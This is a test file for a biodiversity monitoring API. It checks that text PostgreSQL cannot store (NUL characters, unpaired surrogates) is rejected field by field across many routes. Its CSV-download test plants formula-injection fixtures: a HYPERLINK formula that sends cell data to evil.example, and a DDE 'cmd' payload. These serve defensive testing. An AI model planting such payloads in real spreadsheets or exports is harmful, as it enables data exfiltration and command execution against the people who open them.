import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import type { FastifyInstance } from 'fastify';
import { runSeeds } from '@biomon/seed';
import { sql } from '@biomon/db';
import { importLayer } from '@biomon/layers';
import { parse } from 'csv-parse/sync';
import { createTestContext, type TestContext } from '../../support/test-db';
import { authAs, buildTestServer } from '../../support/http';
import { REPO_ROOT, runCli } from '../../support/cli';

// Text PostgreSQL cannot store — a NUL character (sent as the JSON escape \u0000 or %00) and
// UTF-16 surrogates without their partner (\ud800 alone, \udc00 alone) — in every kind of text a
// request carries: JSON values and property names, batch records, station rows, query strings,
// path parameters and multipart file names. Each answers 4xx naming the field (TEXT_INVALID_CHARACTER),
// never a 500, and in a batch only the bad record is rejected.

let t: TestContext;
let app: FastifyInstance;
let surveyor: { authorization: string };
let evaluator: { authorization: string };
let admin: { authorization: string };
let station: { authorization: string };
let department: { authorization: string };

const NUL = '\u0000';
const HIGH = '\ud800';
const LOW = '\udc00';
const rec = (id: string, extra: Record<string, unknown> = {}) => ({
  occurrenceID: id,
  scientificName: 'Sus scrofa',
  eventDate: '2025-01-01',
  decimalLatitude: 43,
  decimalLongitude: 126,
  ...extra,
});
const count = async (table: string, where = sql`true`) =>
  (await sql<{ n: number }>`SELECT count(*)::int AS n FROM ${sql.table(table)} WHERE ${where}`.execute(t.ctx.db)).rows[0].n;

beforeAll(async () => {
  t = await createTestContext();
  await runSeeds(t.ctx.db, 'reference', path.join(REPO_ROOT, 'seeds'));
  app = await buildTestServer(t);
  surveyor = await authAs(t, 'surveyor', { team: 'text' });
  evaluator = await authAs(t, 'evaluator');
  admin = await authAs(t, 'admin');
  const reg = await app.inject({
    method: 'POST',
    url: '/v1/stations',
    headers: admin,
    payload: {
      stationId: 'TX-ST',
      name: '文本站',
      type: 'weather',
      location: { type: 'Point', coordinates: [126, 43] },
      datastreams: [
        { datastreamId: 'TX-ST-s', observedProperty: 'note', unitOfMeasurement: { symbol: '' }, resultType: 'string' },
        { datastreamId: 'TX-ST-j', observedProperty: 'detection', unitOfMeasurement: { symbol: '' }, resultType: 'json' },
      ],
    },
  });
  expect(reg.statusCode, reg.body).toBe(201);
  station = { authorization: `Bearer ${reg.json().token}` };
  const dept = await t.ctx.db.selectFrom('departments').select('id').where('name', '=', '省林草局').executeTakeFirstOrThrow();
  department = await authAs(t, 'department', { departmentId: dept.id });
});
afterAll(async () => {
  await app.close();
  await t.close();
});

describe('batch endpoints: the bad record is rejected, the others are stored (BRIEF §9)', () => {
  it('POST /v1/occurrences: NUL in a value, unpaired surrogates in a value and in a term name', async () => {
    const records = [
      rec('tx-ok-1'),
      rec('tx-nul', { occurrenceRemarks: `scat${NUL}` }),
      rec('tx-high', { locality: `长白山${HIGH}` }),
      rec('tx-key', { [`habitat${LOW}`]: 'forest' }),
      rec('tx-pair', { occurrenceRemarks: 'a paired surrogate is fine: \ud83d\udc2f' }),
    ];
    const res = await app.inject({ method: 'POST', url: '/v1/occurrences', headers: surveyor, payload: { records } });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.inserted).toBe(2);
    expect(body.rejected).toEqual([
      { index: 1, id: 'tx-nul', errors: [expect.objectContaining({ field: 'occurrenceRemarks', code: 'TEXT_INVALID_CHARACTER' })] },
      { index: 2, id: 'tx-high', errors: [expect.objectContaining({ field: 'locality', code: 'TEXT_INVALID_CHARACTER' })] },
      { index: 3, id: 'tx-key', errors: [expect.objectContaining({ field: 'habitat\\udc00', code: 'TEXT_INVALID_CHARACTER' })] },
    ]);
    expect(body.rejected[0].errors[0].message).toMatch(/NUL/);
    expect(body.rejected[1].errors[0].message).toMatch(/U\+D800/);
    expect(await count('occurrences', sql`occurrence_id LIKE 'tx-%'`)).toBe(2);
    const tiger = await sql<{ r: string }>`SELECT data->>'occurrenceRemarks' AS r FROM occurrences WHERE occurrence_id = 'tx-pair'`.execute(t.ctx.db);
    expect(tiger.rows[0].r).toBe('a paired surrogate is fine: 🐯');
  });

  it('POST /v1/occurrences: nothing storable is 422 BATCH_REJECTED naming each record and field; the envelope is checked as a whole', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/occurrences',
      headers: surveyor,
      payload: { records: [rec(`tx-id${NUL}`), rec('tx-2', { recordedBy: LOW })] },
    });
    expect(res.statusCode).toBe(422);
    expect(res.json().error.code).toBe('BATCH_REJECTED');
    expect(
      res
        .json()
        .error.details.rejected.map((r: { index: number; id: string; errors: { field: string; code: string }[] }) => [
          r.index,
          r.id,
          r.errors.find((e) => e.code === 'TEXT_INVALID_CHARACTER')?.field,
        ]),
    ).toEqual([
      [0, `tx-id${NUL}`, 'occurrenceID'],
      [1, 'tx-2', 'recordedBy'],
    ]);
    const envelope = await app.inject({
      method: 'POST',
      url: '/v1/occurrences',
      headers: surveyor,
      payload: { records: [rec('tx-3')], [`atomic${NUL}`]: true },
    });
    expect(envelope.statusCode).toBe(422);
    expect(envelope.json().error).toMatchObject({
      code: 'TEXT_INVALID_CHARACTER',
      details: { errors: [{ field: 'atomic\\u0000', code: 'TEXT_INVALID_CHARACTER' }] },
    });
    expect(await count('occurrences', sql`occurrence_id IN ('tx-2', 'tx-3')`)).toBe(0);
  });

  it('POST /v1/survey-events: a batch keeps its good event; one event alone with a NUL is 422 naming the term', async () => {
    const ev = (id: string, extra: Record<string, unknown> = {}) => ({
      eventID: id,
      eventDate: '2025-06-01',
      samplingProtocol: 'line transect',
      decimalLatitude: 43,
      decimalLongitude: 126,
      ...extra,
    });
    const res = await app.inject({
      method: 'POST',
      url: '/v1/survey-events',
      headers: surveyor,
      payload: { records: [ev('tx-ev-1'), ev('tx-ev-2', { eventRemarks: `x${NUL}y` }), ev('tx-ev-3', { 'eco:targetTaxonomicScope': [`Aves${HIGH}`] })] },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().inserted).toBe(1);
    expect(
      res.json().rejected.map((r: { index: number; errors: { field: string; code: string }[] }) => [r.index, r.errors[0].field, r.errors[0].code]),
    ).toEqual([
      [1, 'eventRemarks', 'TEXT_INVALID_CHARACTER'],
      [2, 'eco:targetTaxonomicScope[0]', 'TEXT_INVALID_CHARACTER'],
    ]);
    const single = await app.inject({ method: 'POST', url: '/v1/survey-events', headers: surveyor, payload: ev('tx-ev-4', { habitat: NUL }) });
    expect(single.statusCode).toBe(422);
    expect(single.json().error.details.rejected[0].errors[0]).toMatchObject({ field: 'habitat', code: 'TEXT_INVALID_CHARACTER' });
    expect(await count('survey_events', sql`event_id LIKE 'tx-ev-%'`)).toBe(1);
  });

  it('POST /v1/stations/{id}/observations: string and json results, datastream ids, JSON and NDJSON', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/stations/TX-ST/observations',
      headers: station,
      payload: {
        datastreams: [
          {
            datastreamId: 'TX-ST-s',
            components: ['phenomenonTime', 'result'],
            dataArray: [
              ['2025-01-01T00:00:00Z', 'ok'],
              ['2025-01-01T01:00:00Z', `bad${NUL}`],
            ],
          },
          {
            datastreamId: 'TX-ST-j',
            components: ['phenomenonTime', 'result'],
            dataArray: [
              ['2025-01-01T00:00:00Z', { taxa: ['Sus scrofa', `x${LOW}`] }],
              ['2025-01-01T01:00:00Z', { [`k${HIGH}`]: 1 }],
            ],
          },
          { datastreamId: `TX-ST-s${NUL}`, components: ['phenomenonTime', 'result'], dataArray: [['2025-01-01T02:00:00Z', 'x']] },
        ],
      },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().inserted).toBe(1);
    expect(
      res
        .json()
        .rejected.map((r: { datastreamId: string; index: number; errors: { field: string; code: string }[] }) => [
          r.datastreamId,
          r.index,
          r.errors[0].field,
          r.errors[0].code,
        ]),
    ).toEqual([
      ['TX-ST-s', 1, 'result', 'TEXT_INVALID_CHARACTER'],
      ['TX-ST-j', 0, 'result.taxa[1]', 'TEXT_INVALID_CHARACTER'],
      ['TX-ST-j', 1, 'result.k\\ud800', 'TEXT_INVALID_CHARACTER'],
      [`TX-ST-s${NUL}`, 0, 'datastreamId', 'TEXT_INVALID_CHARACTER'],
    ]);
    const nd = await app.inject({
      method: 'POST',
      url: '/v1/stations/TX-ST/observations',
      headers: { ...station, 'content-type': 'application/x-ndjson' },
      payload: [
        '{"datastreamId":"TX-ST-s","phenomenonTime":"2025-01-02T00:00:00Z","result":"fine"}',
        '{"datastreamId":"TX-ST-s","phenomenonTime":"2025-01-02T01:00:00Z","result":"\\u0000"}',
      ].join('\n'),
    });
    expect(nd.statusCode, nd.body).toBe(200);
    expect(nd.json()).toMatchObject({ inserted: 1, rejected: [{ index: 1, errors: [{ field: 'result', code: 'TEXT_INVALID_CHARACTER' }] }] });
  });
});

describe('other JSON routes: 422 TEXT_INVALID_CHARACTER naming the field, nothing written', () => {
  const cases: [
    string,
    () => Promise<{ statusCode: number; json: () => { error: { code: string; details: { errors: { field: string; code: string }[] } } } }>,
    string,
  ][] = [
    [
      'ledger progress note',
      () => app.inject({ method: 'POST', url: '/v1/ledger/tasks/12/progress', headers: department, payload: { status: 'in_progress', note: `进展${NUL}` } }),
      'note',
    ],
    [
      'ledger evidence title (unpaired low surrogate)',
      () =>
        app.inject({
          method: 'POST',
          url: '/v1/ledger/tasks/12/progress',
          headers: department,
          payload: { status: 'done', evidence: [{ title: `报告${LOW}`, url: 'https://example.org/r' }] },
        }),
      'evidence[0].title',
    ],
    [
      'review comment',
      () => app.inject({ method: 'POST', url: '/v1/occurrences/tx-ok-1/review', headers: evaluator, payload: { state: 'verified', comment: `ok${HIGH}` } }),
      'comment',
    ],
    [
      'a property name',
      () => app.inject({ method: 'POST', url: '/v1/reports', headers: evaluator, payload: { year: 2024, [`re${NUL}gion`]: '220000' } }),
      're\\u0000gion',
    ],
    ['station name', () => app.inject({ method: 'PATCH', url: '/v1/stations/TX-ST', headers: admin, payload: { name: `站${NUL}` } }), 'name'],
    ['alert ack note', () => app.inject({ method: 'POST', url: '/v1/alerts/1/ack', headers: evaluator, payload: { note: NUL } }), 'note'],
    ['export filter', () => app.inject({ method: 'POST', url: '/v1/exports/dwca', headers: surveyor, payload: { taxon: `Panthera${NUL}` } }), 'taxon'],
    [
      'layer feature property (geo+json)',
      () =>
        app.inject({
          method: 'POST',
          url: '/v1/layers/protected-areas?year=2025',
          headers: { ...admin, 'content-type': 'application/geo+json' },
          payload: JSON.stringify({
            type: 'FeatureCollection',
            features: [
              {
                type: 'Feature',
                properties: { id: 'T1', name: `保护区${HIGH}`, designation: 'nature_reserve', status: 'designated' },
                geometry: {
                  type: 'Polygon',
                  coordinates: [
                    [
                      [126, 42],
                      [126.1, 42],
                      [126.1, 42.1],
                      [126, 42.1],
                      [126, 42],
                    ],
                  ],
                },
              },
            ],
          }),
        }),
      'features[0].properties.name',
    ],
  ];
  for (const [name, send, field] of cases) {
    it(name, async () => {
      const before = await count('audit_log');
      const res = await send();
      expect(res.statusCode).toBe(422);
      expect(res.json().error.code).toBe('TEXT_INVALID_CHARACTER');
      expect(res.json().error.details.errors).toEqual([expect.objectContaining({ field, code: 'TEXT_INVALID_CHARACTER' })]);
      expect(await count('audit_log')).toBe(before);
    });
  }
});

describe('CSV downloads go through the one writer: formula cells guarded, numbers kept', () => {
  it('GET /v1/downloads/occurrences?format=csv', async () => {
    const hostile = {
      recordedBy: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      locality: "+cmd|' /C calc'!A0",
      occurrenceRemarks: '@SUM(1+1)',
      identifiedBy: '-2+3',
    };
    const res = await app.inject({
      method: 'POST',
      url: '/v1/occurrences',
      headers: surveyor,
      payload: { records: [rec('tx-formula', { ...hostile, decimalLatitude: -0.5, decimalLongitude: 126 })] },
    });
    expect(res.statusCode, res.body).toBe(200);
    const csv = (await app.inject({ method: 'GET', url: '/v1/downloads/occurrences?format=csv', headers: evaluator })).body;
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(csv.slice(1), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.occurrenceID === 'tx-formula')!;
    expect({ recordedBy: row.recordedBy, locality: row.locality, occurrenceRemarks: row.occurrenceRemarks, identifiedBy: row.identifiedBy }).toEqual(
      Object.fromEntries(Object.entries(hostile).map(([k, v]) => [k, `'${v}`])),
    );
    expect(row.decimalLatitude).toBe('-0.5');
  });
});

describe('files read outside a request', () => {
  it('biomon layers import (importLayer): a feature whose property holds a NUL is left out, naming the property; the others are stored', async () => {
    const square = {
      type: 'Polygon',
      coordinates: [
        [
          [126, 42],
          [126.1, 42],
          [126.1, 42.1],
          [126, 42.1],
          [126, 42],
        ],
      ],
    };
    const f = (id: string, name: string) => ({
      type: 'Feature' as const,
      properties: { id, name, designation: 'nature_reserve', status: 'designated' },
      geometry: square,
    });
    const r = await importLayer(
      t.ctx.db,
      [f('TL-1', '保护区'), f('TL-2', `保护区${NUL}`), { ...f('TL-3', 'x'), properties: { ...f('TL-3', 'x').properties, [`备注${HIGH}`]: 'y' } }],
      { kind: 'protected-areas', year: 2025 },
    );
    expect(r.features).toBe(1);
    expect(r.rejected).toEqual([
      { index: 1, field: 'features[1].properties.name', reason: expect.stringMatching(/NUL/) },
      { index: 2, field: 'features[2].properties.备注\\ud800', reason: expect.stringMatching(/U\+D800/) },
    ]);
  });
});

describe('biomon taxa import', () => {
  it('refuses a species list holding a NUL, naming the entry, and imports nothing of it', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'biomon-taxa-nul-'));
    const file = path.join(dir, 'list.csv');
    writeFileSync(file, `中文名,拉丁名,保护级别\n东北虎,Panthera tigris altaica,一级\n东北${NUL}豹,Panthera pardus orientalis,一级\n`);
    const before = await count('taxa');
    const res = await runCli(['taxa', 'import', file], { DATABASE_URL: t.database.url });
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/list\.csv holds text that cannot be stored, nothing imported: species\[1\]\.chineseName/);
    expect(await count('taxa')).toBe(before);
  });
});

describe('query strings and path parameters', () => {
  it('refuses %00 in a query value or key and in a path parameter with 422 naming it; never a 500', async () => {
    const q = await app.inject({ method: 'GET', url: '/v1/occurrences?taxon=Sus%00scrofa' });
    expect(q.statusCode).toBe(422);
    expect(q.json().error.details.errors[0]).toMatchObject({ field: 'query.taxon', code: 'TEXT_INVALID_CHARACTER' });
    const key = await app.inject({ method: 'GET', url: '/v1/occurrences?na%00me=x' });
    expect(key.statusCode).toBe(422);
    expect(key.json().error.details.errors[0].field).toBe('query.na\\u0000me');
    const p = await app.inject({ method: 'GET', url: '/v1/occurrences/tx-ok%00-1', headers: evaluator });
    expect(p.statusCode).toBe(422);
    expect(p.json().error.details.errors[0].field).toBe('params.occurrenceID');
    const del = await app.inject({ method: 'POST', url: '/v1/occurrences/tx%00/review', headers: evaluator, payload: { state: 'verified' } });
    expect(del.statusCode).toBe(422);
  });

  it('surrogates percent-encoded as CESU-8, or an overlong NUL, never decode to text: 400 URL_ENCODING_INVALID in a path, no surrogate from a query', async () => {
    for (const enc of ['%ED%A0%80', '%ED%B0%80', '%C0%80', '%ED%A0%80%ED%B0%80']) {
      for (const url of [`/v1/occurrences/x${enc}`, `/ogc/collections/occurrences/items/${enc}`, `/v1/stations/${enc}`]) {
        const res = await app.inject({ method: 'GET', url, headers: evaluator });
        expect(res.statusCode, `${url}: ${res.body}`).toBe(400);
        expect(res.json().error).toMatchObject({ code: 'VALIDATION_FAILED', details: { errors: [{ field: 'url', code: 'URL_ENCODING_INVALID' }] } });
      }
      for (const url of [`/v1/occurrences?taxon=x${enc}`, `/v1/taxa?name=${enc}`]) {
        const res = await app.inject({ method: 'GET', url, headers: evaluator });
        expect([200, 400], `${url}: ${res.body}`).toContain(res.statusCode); // no surrogate reaches a handler: U+FFFD or the raw text
      }
    }
  });
});

describe('multipart text', () => {
  const multipart = (disposition: string, extra = '') => {
    const b = 'txb';
    return {
      headers: { 'content-type': `multipart/form-data; boundary=${b}` },
      payload: Buffer.from(
        `${extra.replace(/\{b\}/g, b)}--${b}\r\nContent-Disposition: ${disposition}\r\nContent-Type: text/csv\r\n\r\noccurrenceID,scientificName\r\nx,y\r\n\r\n--${b}--\r\n`,
        'utf8',
      ),
    };
  };
  it('a NUL in the file name (raw or RFC 5987 encoded) is 422 naming file.filename; no import is created', async () => {
    for (const disposition of ['form-data; name="file"; filename="a\u0000.csv"', 'form-data; name="file"; filename*=UTF-8\'\'a%00b.csv']) {
      const m = multipart(disposition);
      const res = await app.inject({ method: 'POST', url: '/v1/imports', headers: { ...surveyor, ...m.headers }, payload: m.payload });
      expect(res.statusCode, res.body).toBe(422);
      expect(res.json().error).toMatchObject({
        code: 'TEXT_INVALID_CHARACTER',
        details: { errors: [{ field: 'file.filename', code: 'TEXT_INVALID_CHARACTER' }] },
      });
    }
    expect(await count('imports')).toBe(0);
  });
  it('a NUL in a text field before the file is 422 naming the field', async () => {
    const m = multipart('form-data; name="file"; filename="a.csv"', '--{b}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\u0000\r\n');
    const res = await app.inject({ method: 'POST', url: '/v1/imports', headers: { ...surveyor, ...m.headers }, payload: m.payload });
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().error.details.errors).toEqual([expect.objectContaining({ field: 'fields.note', code: 'TEXT_INVALID_CHARACTER' })]);
    const evidence = multipart('form-data; name="file"; filename="证据\u0000.pdf"');
    const ev = await app.inject({ method: 'POST', url: '/v1/files', headers: { ...department, ...evidence.headers }, payload: evidence.payload });
    expect(ev.statusCode, ev.body).toBe(422);
    expect(ev.json().error.details.errors[0].field).toBe('file.filename');
    expect(await count('imports')).toBe(0);
    expect(await count('files')).toBe(0);
  });
});
